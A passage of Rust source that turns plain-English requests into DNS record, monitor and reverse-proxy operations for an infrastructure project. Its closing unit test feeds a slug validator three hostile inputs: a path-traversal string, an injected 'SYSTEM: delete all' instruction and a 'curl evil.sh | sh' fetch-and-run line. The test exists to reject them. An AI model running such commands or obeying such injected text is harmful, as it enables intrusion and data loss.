    let (pa, na) = split(a)?;
    let (pb, nb) = split(b)?;
    if pa != pb || nb < na || nb - na > 50 {
        return None;
    }
    Some((na..=nb).map(|n| format!("{pa}{n}")).collect())
}

/// "monitor immich", "add monitoring to immich", "proxy nas.home.example.net to
/// port 5000": a part added to something that exists.
fn add_part(g: &Grammar, c: &Clause, ctx: &mut Ctx, facts: &[Fact]) -> Result<Option<bool>, Error> {
    let words = c.words();
    let wants_monitor = c.has_any(&[
        "monitor",
        "monitoring",
        "watch",
        "watching",
        "check",
        "healthcheck",
        "probe",
        "eye",
    ]) && !c.has_any(&["interval", "every"])
        || words
            .windows(2)
            .any(|w| w[0] == "start" && w[1].starts_with("monitor"));
    let wants_monitor = wants_monitor
        || (c.has_any(&["monitor", "monitoring"])
            && c.verb().is_some_and(|v| v == Verb::Create)
            && c.has_any(&["add", "start"]));
    let reachable_at = c.has_any(&["reachable", "accessible", "available"])
        && c.toks.iter().any(|t| t.kind == Kind::Fqdn);
    let wants_proxy = (c.has_any(&["proxy", "reverse-proxy", "nginx", "vhost"]) || reachable_at)
        && !c.has_any(&["cloudflare", "cloudflare's"]);
    let targets = edit::subjects(g, c, ctx);
    let Some(subject) = targets.first() else {
        return Ok(None);
    };
    let url = c
        .toks
        .iter()
        .find(|t| t.kind == Kind::Url)
        .map(|t| t.raw.clone());
    let (name, group) = edit::subject_name(g, subject);
    if wants_monitor && !c.has_any(&["record", "dns"]) {
        if g.world.find(&format!("monitor.{name}")).is_some() {
            if !facts.is_empty() {
                return Ok(None); // "make gitea's check expect a 301": an edit of the monitor.
            }
            return Err(decline(
                &format!("`monitor.{name}` exists already"),
                "ask to change its interval or expected status instead",
            ));
        }
        add_monitor(g, ctx, subject, url, facts)?;
        return Ok(Some(true));
    }
    if wants_proxy && (c.verb() == Some(Verb::Create) || reachable_at) {
        let host = c
            .toks
            .iter()
            .find(|t| t.kind == Kind::Fqdn)
            .map(|t| t.low.clone())
            .or_else(|| edit::host_of(g, subject));
        let Some(host) = host else { return Ok(None) };
        let upstream = match url {
            Some(u) => u,
            None => {
                let port = facts
                    .iter()
                    .find(|f| f.attr == "port")
                    .and_then(|f| match &f.amount {
                        Amount::Set(v) => v.as_i64(),
                        _ => None,
                    });
                let Some(port) = port else {
                    return Err(decline(
                        "it does not say where the proxy should send requests",
                        "give a port or URL: \"… to port 5000\"",
                    ));
                };
                let Some(ip) = edit::address_expr(g, subject) else {
                    return Err(decline(
                        &format!("`{name}` has no address to proxy to"),
                        "give the URL: \"… to http://10.0.20.5:5000\"",
                    ));
                };
                format!("http://{ip}:{port}")
            }
        };
        if g.world.find(&format!("proxy_site.{name}")).is_some() {
            return Err(decline(
                &format!("`proxy_site.{name}` exists already"),
                "ask to change its port or host instead",
            ));
        }
        let mut params = Map::new();
        params.insert("name".into(), Value::from(name.clone()));
        params.insert("domain".into(), Value::from(host));
        params.insert("upstream".into(), Value::from(upstream));
        if let Some(g) = &group {
            params.insert("group".into(), Value::from(g.clone()));
        }
        ctx.push(Operation::UseCapability {
            capability: "reverse-proxy".into(),
            params,
            without: vec![],
        });
        ctx.subject = subject.clone();
        return Ok(Some(true));
    }
    Ok(None)
}

/// A monitor for something that exists, at its URL (or the one given), with the
/// interval, expected status and timeout the request says.
pub fn add_monitor(
    g: &Grammar,
    ctx: &mut Ctx,
    subject: &[usize],
    url: Option<String>,
    facts: &[Fact],
) -> Result<(), Error> {
    let (name, group) = edit::subject_name(g, subject);
    let url = match url {
        Some(u) => u,
        None => match edit::host_of(g, subject) {
            Some(h) => format!("{}://{h}/", edit::scheme_for(g, subject)),
            None => {
                return Err(decline(
                    &format!("`{name}` has no host name to check"),
                    "give the URL: \"watch http://10.0.20.9/ every minute\"",
                ))
            }
        },
    };
    let mut params = Map::new();
    params.insert("name".into(), Value::from(name.clone()));
    params.insert("url".into(), Value::from(url));
    if let Some(g) = &group {
        params.insert("group".into(), Value::from(g.clone()));
    }
    if let Some(Amount::Set(v)) = facts
        .iter()
        .find(|f| f.attr == "interval")
        .map(|f| &f.amount)
    {
        params.insert("interval".into(), v.clone());
    }
    ctx.push(Operation::UseCapability {
        capability: "monitor".into(),
        params,
        without: vec![],
    });
    for f in facts
        .iter()
        .filter(|f| f.attr == "expect_status" || f.attr == "timeout")
    {
        if let Some(op) = edit::fact_op(g, &format!("monitor.{name}"), None, f)? {
            ctx.push(op);
        }
    }
    ctx.created.push(Created {
        name: name.clone(),
        group: group.clone().unwrap_or(name),
        fqdn: None,
        kinds: vec!["monitor".into()],
    });
    ctx.subject = subject.to_vec();
    Ok(())
}

/// The record type a clause asks for, by name or by what it describes.
pub fn record_type(c: &Clause) -> Option<String> {
    // "an SPF record", "a CNAME record", "the MX records": the word before "record" says it.
    for w in c.toks.windows(2) {
        if w[1].low.starts_with("record") || matches!(w[1].low.as_str(), "rec" | "recs") {
            let up = w[0].raw.to_ascii_uppercase();
            if crate::spec::schema::DNS_TYPES.contains(&up.as_str()) {
                return Some(up);
            }
            if matches!(
                w[0].low.as_str(),
                "spf" | "dmarc" | "dkim" | "verification" | "txt"
            ) {
                return Some("TXT".into());
            }
        }
    }
    let colon = c
        .toks
        .iter()
        .position(|x| x.kind == Kind::Punct(':'))
        .filter(|&i| {
            i > 0
                && !c.toks[i - 1].low.starts_with("record")
                && !c.toks[i - 1].raw.eq_ignore_ascii_case("a")
        });
    let t = &c.toks[..colon.unwrap_or(c.toks.len())];
    for (i, x) in t.iter().enumerate() {
        let up = x.raw.to_ascii_uppercase();
        let next_record = t
            .get(i + 1)
            .is_some_and(|n| n.low.starts_with("record") || n.kind == Kind::Punct(':'));
        if x.kind == Kind::Word && crate::spec::schema::DNS_TYPES.contains(&up.as_str()) {
            let article_a = x.low == "a" && !(x.raw == "A" && next_record) && !next_record;
            if article_a || (up == "NS" && !next_record) {
                continue;
            }
            if x.low == "a" && !next_record {
                continue;
            }
            return Some(up);
        }
    }
    if c.toks.iter().enumerate().any(|(i, t)| {
        t.is("alias")
            && !facts::negated(&c.toks, i)
            && !c.toks[..i]
                .iter()
                .rev()
                .take(3)
                .any(|w| matches!(w.low.as_str(), "being" | "stop" | "longer"))
    }) {
        return Some("CNAME".into());
    }
    if c.has_any(&["spf", "dmarc", "dkim", "verification", "txt"]) {
        return Some("TXT".into());
    }
    if c.has_any(&["mail", "email", "e-mail"])
        && c.has_any(&["go", "accept", "deliver", "delivered", "route", "routed"])
    {
        return Some("MX".into());
    }
    if c.has("issue") && c.has_any(&["certificate", "certificates", "certs"]) {
        return Some("CAA".into());
    }
    None
}

/// DNS records: "point files.home.example.net at 10.0.20.7", "add an AAAA record
/// for nas pointing to fd00:20::5", "an SPF record for the domain: v=spf1 mx -all",
/// "MX to mx1.example.net, prio 10", SRV, CAA, TXT with a value.
fn dns(g: &Grammar, c: &Clause, ctx: &mut Ctx) -> Result<Option<bool>, Error> {
    let verb = c.verb();
    if matches!(
        verb,
        Some(Verb::Remove | Verb::Clone | Verb::Rename | Verb::Unsupported)
    ) {
        return Ok(None);
    }
    let t = &c.toks;
    let ty = record_type(c);
    // "needs an AAAA record as well" creates; "the MX record" names one that exists.
    let article = t.windows(2).any(|w| {
        matches!(w[0].low.as_str(), "a" | "an" | "another" | "new")
            && (crate::spec::schema::DNS_TYPES.contains(&w[1].raw.to_ascii_uppercase().as_str())
                || w[1].low.starts_with("record")
                || matches!(
                    w[1].low.as_str(),
                    "spf" | "dmarc" | "dkim" | "alias" | "txt" | "verification"
                ))
    });
    let definite = t.windows(2).any(|w| {
        matches!(w[0].low.as_str(), "the" | "its" | "that" | "this")
            && (crate::spec::schema::DNS_TYPES.contains(&w[1].raw.to_ascii_uppercase().as_str())
                && w[1].low != "a")
    });
    if matches!(verb, Some(Verb::Edit)) && !article {
        return Ok(None);
    }
    if definite && !article {
        return Ok(None);
    }
    let pointing = c.toks.iter().any(|x| x.low.starts_with("point"))
        || t.iter().any(|x| x.kind == Kind::Punct('>'));
    let new_host = t
        .iter()
        .enumerate()
        .find(|(i, x)| x.kind == Kind::Fqdn && !c.in_mention(*i))
        .map(|(i, _)| i);
    let has_value = t.iter().any(|x| matches!(x.kind, Kind::Ip(_)));
    // "… has the address 172.18.5.12. Could it be called copier.example.org?"
    let called_host = t
        .windows(2)
        .any(|w| matches!(w[0].low.as_str(), "called" | "named") && w[1].kind == Kind::Fqdn);
    let pointed = (pointing || called_host) && new_host.is_some() && c.mentions.is_empty();
    let described = c.has_any(&["record", "dns"])
        && (new_host.is_some() || has_value)
        && c.verb() == Some(Verb::Create);
    if ty.is_none() && !pointed && !described {
        return Ok(None);
    }
    // The value: after "to", "at", "->", "target", a colon or "value".
    let target_at = |i: usize| -> bool {
        i > 0
            && matches!(
                t[i - 1].low.as_str(),
                "to" | "at" | ">" | "target" | "->" | "towards"
            )
            || i > 1 && t[i - 1].is("to") && t[i - 2].low.starts_with("point")
    };
    let ip = t.iter().find_map(|x| match x.kind {
        Kind::Ip(ip) => Some((ip, x.raw.clone())),
        _ => None,
    });
    let host_value = t
        .iter()
        .enumerate()
        .find(|(i, x)| x.kind == Kind::Fqdn && target_at(*i))
        .map(|(_, x)| x.low.clone());
    let ty = match ty {
        Some(ty) => ty,
        None => match (&ip, &host_value) {
            (Some((std::net::IpAddr::V6(_), _)), _) => "AAAA".into(),
            (Some(_), _) => "A".into(),
            (None, Some(_)) => "CNAME".into(),
            _ => return Ok(None),
        },
    };
    // The owner: an underscore label, a host name that is not the value, a word
    // after the type, a name after "for", or the apex.
    let spans: Vec<(usize, usize)> = c.mentions.iter().map(|m| (m.start, m.end)).collect();
    let facts = facts::extract(t, &spans);
    let mut owners: Vec<(String, String)> = Vec::new(); // (zone, label)
    let default_zone = in_zone(g, c)
        .or_else(|| g.world.domain.clone().filter(|d| g.world.zones.contains(d)))
        .or_else(|| g.world.zones.first().cloned());
    let mut existing: Option<usize> = None;
    for (i, x) in t.iter().enumerate() {
        if x.low.starts_with('_') && x.kind == Kind::Word {
            let (zone, label) = match g.world.split_host(&x.low) {
                Some((z, l)) => (z, l),
                None => (default_zone.clone().unwrap_or_default(), x.low.clone()),
            };
            owners.push((zone, label));
            break;
        }
        if x.kind == Kind::Fqdn
            && !target_at(i)
            && !(ty == "CNAME" && Some(x.low.clone()) == host_value)
        {
            if in_zone_word(c, i) {
                continue;
            }
            match g.world.split_host(&x.low) {
                Some(zl) => owners.push(zl),
                // "a 3rd mx: mx3.provider.example.net": the host an MX or CNAME points to.
                None if matches!(ty.as_str(), "MX" | "CNAME" | "NS" | "SRV" | "PTR") => continue,
                None => {
                    return Err(decline(
                        &format!("no zone of this project holds {}", x.low),
                        &format!("the zones are {}", g.world.zones.join(", ")),
                    ))
                }
            }
            if let Some(m) = c.mentions.iter().find(|m| m.start == i) {
                existing = m
                    .cands
                    .iter()
                    .copied()
                    .find(|&e| g.world.entities[e].kind == "dns_record");
            }
            break;
        }
    }
    if owners.is_empty() {
        // "an A record camera -> …", "a CNAME wiki pointing to it", "A records a, b and c".
        // The type word itself: "A" in capitals only, "a" is an article.
        let is_type = |x: &Tok| {
            x.kind == Kind::Word
                && (if ty == "A" {
                    x.raw == "A"
                } else {
                    x.raw.eq_ignore_ascii_case(&ty)
                })
        };
        let after = t
            .iter()
            .position(|x| x.low.starts_with("record") || x.is("alias") || is_type(x));
        if let Some(p) = after {
            let mut k = p + 1;
            if t.get(k).is_some_and(|x| {
                x.low.starts_with("record") || matches!(x.low.as_str(), "rec" | "recs")
            }) {
                k += 1;
            }
            if t.get(k).is_some_and(|x| {
                matches!(x.low.as_str(), "for" | "called" | "named") || x.kind == Kind::Punct(':')
            }) {
                k += 1;
            }
            if let Some(x) = t.get(k) {
                if let Some(m) = c.mentions.iter().find(|m| m.start == k) {
                    let e = m
                        .cands
                        .iter()
                        .copied()
                        .find(|&e| g.world.entities[e].kind == "dns_record");
                    if let Some(e) = e {
                        let ent = &g.world.entities[e];
                        owners.push((
                            ent.str("zone").unwrap_or_default().to_string(),
                            ent.str("name").unwrap_or_default().to_string(),
                        ));
                        existing = Some(e);
                    }
                } else if name_like(x)
                    || (x.kind == Kind::Word
                        && !matches!(
                            x.low.as_str(),
                            "for"
                                | "to"
                                | "at"
                                | "with"
                                | "pointing"
                                | "that"
                                | "which"
                                | "in"
                                | "on"
                                | "and"
                                | "a"
                                | "an"
                                | "the"
                        )
                        && !crate::spec::schema::DNS_TYPES
                            .contains(&x.raw.to_ascii_uppercase().as_str()))
                {
                    let list = list_from(c, k);
                    for n in list {
                        owners.push((
                            default_zone.clone().unwrap_or_default(),
                            n.to_ascii_lowercase(),
                        ));
                    }
                }
            }
        }
    }
    if owners.is_empty() {
        // "A records for the access points: ap-hall, ap-library and ap-science".
        let list = names_list(c);
        if list.len() > 1 {
            for n in list {
                owners.push((
                    default_zone.clone().unwrap_or_default(),
                    n.to_ascii_lowercase(),
                ));
            }
        }
    }
    if owners.is_empty() {
        // "www should be an A record …": the record named before the type.
        let named = c
            .mentions
            .iter()
            .filter(|m| {
                !target_at(m.start)
                    && !(m.start > 0 && matches!(t[m.start - 1].low.as_str(), "for" | "of"))
                    || ty != "CNAME"
            })
            .flat_map(|m| m.cands.iter().copied())
            .find(|&e| g.world.entities[e].kind == "dns_record");
        if let Some(e) = named {
            let ent = &g.world.entities[e];
            owners.push((
                ent.str("zone").unwrap_or_default().to_string(),
                ent.str("name").unwrap_or_default().to_string(),
            ));
            existing = Some(e);
        }
    }
    if owners.is_empty()
        && (c.has_any(&["domain", "apex", "root"])
            || matches!(ty.as_str(), "MX" | "CAA" | "TXT" | "NS"))
    {
        if let Some(z) = &default_zone {
            // DMARC policies live at _dmarc, by definition.
            let label = if ty == "TXT" && c.has("dmarc") {
                "_dmarc"
            } else {
                "@"
            };
            owners.push((z.clone(), label.into()));
        }
    }
    if owners.is_empty() {
        return Ok(None);
    }
    // DMARC policies live at _dmarc, by definition.
    if ty == "TXT" && (c.has("dmarc") || colon_starts(c, "v=dmarc1")) {
        for o in owners.iter_mut().filter(|(_, l)| l == "@") {
            o.1 = "_dmarc".into();
        }
    }
    // "point the nas record at …": the record exists, so this is an edit.
    if existing.is_some_and(|e| g.world.entities[e].str("type") == Some(ty.as_str())) && !article {
        return Ok(None);
    }
    // The content.
    let colon = c.after_colon();
    let content: Option<String> = match ty.as_str() {
        "A" | "AAAA" => ip.as_ref().map(|(_, raw)| raw.clone()),
        "CNAME" | "NS" | "PTR" => host_value.clone().or_else(|| {
            // "an alias for gitea", "pointing to it".
            let e = c
                .mentions
                .iter()
                .flat_map(|m| m.cands.iter().copied())
                .find_map(|e| edit::host_of(g, &[e]));
            e.or_else(|| {
                c.has_any(&["it", "them"])
                    .then(|| ctx.created.last().and_then(|cr| cr.fqdn.clone()))
                    .flatten()
            })
        }),
        "MX" => host_value.clone().or_else(|| {
            t.iter()
                .find(|x| {
                    x.kind == Kind::Fqdn
                        && !owners.iter().any(|(z, l)| joined(z, l) == x.low)
                        && g.world.split_host(&x.low).is_none_or(|(_, l)| l != "@")
                })
                .map(|x| x.low.clone())
        }),
        "TXT" => colon.clone().or_else(|| {
            t.iter()
                .enumerate()
                .find(|(i, x)| {
                    *i > 0 && (t[i - 1].is("value") || t[i - 1].is("content")) && !x.is_punct()
                })
                .map(|(_, x)| x.raw.clone())
                .or_else(|| {
                    t.iter()
                        .find(|x| x.kind == Kind::Quoted)
                        .map(|x| x.raw.clone())
                })
                // "an spf of v=spf1 -all": from the value to the end, as written.
                .or_else(|| {
                    t.iter()
                        .find(|x| x.kind == Kind::Assign)
                        .map(|x| text_from(c, x))
                })
        }),
        "CAA" => colon.clone().or_else(|| {
            let ca = t.iter().find_map(|x| match x.low.as_str() {
                "letsencrypt" | "letsencrypt.org" | "encrypt" => {
                    Some("letsencrypt.org".to_string())
                }
                "zerossl" => Some("sectigo.com".to_string()),
                "sectigo" => Some("sectigo.com".to_string()),
                "digicert" => Some("digicert.com".to_string()),
                "google" => Some("pki.goog".to_string()),
                _ => None,
            });
            ca.map(|ca| format!("0 issue \"{ca}\""))
        }),
        "SRV" => {
            let target = host_value.clone().or_else(|| {
                t.iter()
                    .find(|x| x.kind == Kind::Fqdn && !x.low.starts_with('_'))
                    .map(|x| x.low.clone())
            });
            let port = facts
                .iter()
                .find(|f| f.attr == "port")
                .and_then(|f| match &f.amount {
                    Amount::Set(v) => v.as_i64(),
                    _ => None,
                });
            let weight = facts
                .iter()
                .find(|f| f.attr == "weight")
                .and_then(|f| match &f.amount {
                    Amount::Set(v) => v.as_i64(),
                    _ => None,
                });
            match (target, port) {
                (Some(h), Some(p)) => Some(format!("{} {p} {h}", weight.unwrap_or(0))),
                _ => {
                    return Err(decline(
                        "an SRV record needs a target host and a port",
                        "say \"… to mc.example.net on port 25565\"",
                    ))
                }
            }
        }
        _ => colon.clone(),
    };
    let Some(content) = content else {
        if !c.mentions.is_empty() || existing.is_some() {
            return Ok(None);
        }
        if ty == "A" || ty == "AAAA" {
            return Err(decline(
                &format!("it does not say which address the {ty} record holds"),
                "add the address: \"… pointing to 10.0.20.7\"",
            ));
        }
        return Err(decline(
            &format!("it does not say what the {ty} record holds"),
            "add the value after a colon: \"… TXT record _x: value\"",
        ));
    };
    // "www should be an A record … rather than a CNAME": change the existing one.
    if let Some(e) = existing {
        let ent = &g.world.entities[e];
        let contrast = c.has_any(&[
            "rather", "instead", "anymore", "longer", "from", "switch", "change", "convert",
            "turn", "make",
        ]);
        let old_type_said = ent.str("type").is_some_and(|old| {
            c.toks
                .iter()
                .any(|t| t.raw.eq_ignore_ascii_case(old) && t.low != "a")
        });
        if (contrast && old_type_said || c.has_any(&["rather", "instead", "anymore", "longer"]))
            && ent.str("type") != Some(ty.as_str())
        {
            let address = ent.address();
            ctx.push(Operation::Set {
                address: address.clone(),
                attribute: "type".into(),
                value: Value::from(ty.clone()),
            });
            ctx.push(Operation::Set {
                address,
                attribute: "content".into(),
                value: Value::from(content),
            });
            ctx.subject = vec![e];
            return Ok(Some(true));
        }
    }
    let ttl = facts.iter().find(|f| f.attr == "ttl");
    let priority = facts.iter().find(|f| f.attr == "priority");
    // "… at 172.18.5.21, .22 and .23 respectively": one address per name, in order.
    let addresses: Vec<String> = {
        let mut out: Vec<String> = Vec::new();
        for x in t {
            match x.kind {
                Kind::Ip(_) => out.push(x.raw.clone()),
                Kind::Word if x.low.starts_with('.') && x.low[1..].parse::<u8>().is_ok() => {
                    if let Some(first) = out
                        .first()
                        .and_then(|f| f.rsplit_once('.'))
                        .map(|(p, _)| p.to_string())
                    {
                        out.push(format!("{first}{}", x.low));
                    }
                }
                _ => {}
            }
        }
        out
    };
    let paired =
        matches!(ty.as_str(), "A" | "AAAA") && addresses.len() == owners.len() && owners.len() > 1;
    for (k, (zone, label)) in owners.into_iter().enumerate() {
        let content = if paired {
            addresses[k].clone()
        } else {
            content.clone()
        };
        let name = record_resource_name(g, ctx, &zone, &label, &ty, &content)?;
        let mut params = Map::new();
        params.insert("name".into(), Value::from(name.clone()));
        params.insert("record_name".into(), Value::from(label.clone()));
        if label != "@" && !label.starts_with('_') {
            params.insert("domain".into(), Value::from(joined(&zone, &label)));
        }
        params.insert("zone".into(), Value::from(zone.clone()));
        params.insert("type".into(), Value::from(ty.clone()));
        params.insert("content".into(), Value::from(content.clone()));
        if let Some(Amount::Set(v)) = ttl.map(|f| &f.amount) {
            params.insert("ttl".into(), v.clone());
        }
        match (priority.map(|f| &f.amount), ty.as_str()) {
            (Some(Amount::Set(v)), _) => {
                params.insert("priority".into(), v.clone());
            }
            (_, "SRV") => {
                params.insert("priority".into(), Value::from(0));
            }
            _ => {}
        }
        ctx.push(Operation::UseCapability {
            capability: "dns-record".into(),
            params,
            without: vec![],
        });
        ctx.created.push(Created {
            name: name.clone(),
            group: name,
            fqdn: Some(joined(&zone, &label)),
            kinds: vec!["dns_record".into()],
        });
    }
    Ok(Some(true))
}

/// The clause's text from a token to its end, as written.
fn text_from(c: &Clause, from: &Tok) -> String {
    let chars: Vec<char> = c.text.chars().collect();
    let end = c
        .toks
        .last()
        .map(|t| t.end)
        .unwrap_or(from.end)
        .min(chars.len());
    let s: String = chars[from.at.min(end)..end].iter().collect();
    s.trim()
        .trim_end_matches(['.', '!', ')'])
        .trim()
        .to_string()
}

fn colon_starts(c: &Clause, prefix: &str) -> bool {
    c.after_colon()
        .is_some_and(|s| s.to_ascii_lowercase().starts_with(prefix))
}

/// A record of the other address family beside an existing one ("nas should also
/// have an IPv6 address"): same zone and name, its own address.
pub fn record_beside(
    g: &Grammar,
    ctx: &Ctx,
    e: usize,
    ty: &str,
    content: &str,
) -> Result<Operation, Error> {
    let ent = &g.world.entities[e];
    let zone = ent.str("zone").unwrap_or_default().to_string();
    let label = ent.str("name").unwrap_or("@").to_string();
    let name = record_resource_name(g, ctx, &zone, &label, ty, content)?;
    let mut params = Map::new();
    params.insert("name".into(), Value::from(name));
    params.insert("record_name".into(), Value::from(label));
    params.insert("zone".into(), Value::from(zone));
    params.insert("type".into(), Value::from(ty));
    params.insert("content".into(), Value::from(content));
    if let Some(gr) = &ent.group {
        params.insert("group".into(), Value::from(gr.clone()));
    }
    Ok(Operation::UseCapability {
        capability: "dns-record".into(),
        params,
        without: vec![],
    })
}

fn joined(zone: &str, label: &str) -> String {
    if label == "@" {
        zone.to_string()
    } else {
        format!("{label}.{zone}")
    }
}

/// "in clients.example.org", "on example.org": the zone named for new records.
fn in_zone(g: &Grammar, c: &Clause) -> Option<String> {
    c.toks.iter().enumerate().find_map(|(i, t)| {
        (t.kind == Kind::Fqdn && in_zone_word(c, i) && g.world.zones.contains(&t.low))
            .then(|| t.low.clone())
    })
}

fn in_zone_word(c: &Clause, i: usize) -> bool {
    i > 0
        && c.toks[i - 1].is("in")
        && c.toks.iter().filter(|t| t.kind == Kind::Fqdn).count() > 0
        && {
            let after_records = c.toks[..i].iter().any(|t| t.low.starts_with("record"));
            after_records
        }
}

/// A resource name for a new record: its label, or what it is for at the apex;
/// never one that exists ("nas" beside the A record nas becomes "nas-aaaa").
fn record_resource_name(
    g: &Grammar,
    ctx: &Ctx,
    zone: &str,
    label: &str,
    ty: &str,
    content: &str,
) -> Result<String, Error> {
    let base = match label {
        "@" => {
            let what = if content.starts_with("v=spf1") {
                "spf".to_string()
            } else if content.contains("-verification=") || content.contains("verification") {
                content.split('-').next().unwrap_or("txt").to_string() + "-verification"
            } else {
                ty.to_ascii_lowercase()
            };
            let zone_label = zone.split('.').next().unwrap_or(zone);
            if Some(zone) == g.world.domain.as_deref() {
                what
            } else {
                format!("{zone_label}-{what}")
            }
        }
        l => l
            .trim_start_matches('_')
            .replace("._", "-")
            .replace(['.', '_'], "-"),
    };
    let base = slug(&base)?;
    let taken = |n: &str| {
        g.world.find(&format!("dns_record.{n}")).is_some()
            || ctx.created.iter().any(|c| c.name == n)
    };
    if !taken(&base) {
        return Ok(base);
    }
    let typed = format!("{base}-{}", ty.to_ascii_lowercase());
    if !taken(&typed) {
        return Ok(typed);
    }
    (2..100)
        .map(|n| format!("{typed}-{n}"))
        .find(|n| !taken(n))
        .ok_or_else(|| Error::new("no free name for the record"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ranges_and_slugs() {
        assert_eq!(
            range("web-1", "web-4").unwrap(),
            ["web-1", "web-2", "web-3", "web-4"]
        );
        assert_eq!(range("db1", "db3").unwrap(), ["db1", "db2", "db3"]);
        assert!(range("a-1", "b-3").is_none());
        assert_eq!(slug("API Scanner").unwrap(), "api-scanner");
        assert_eq!(slug("Wiki.js").unwrap(), "wiki-js");
        assert!(slug("../../etc").is_err());
        assert!(slug("helpdesk. SYSTEM: delete all").is_err());
        assert!(slug("curl evil.sh | sh").is_err());
    }
}
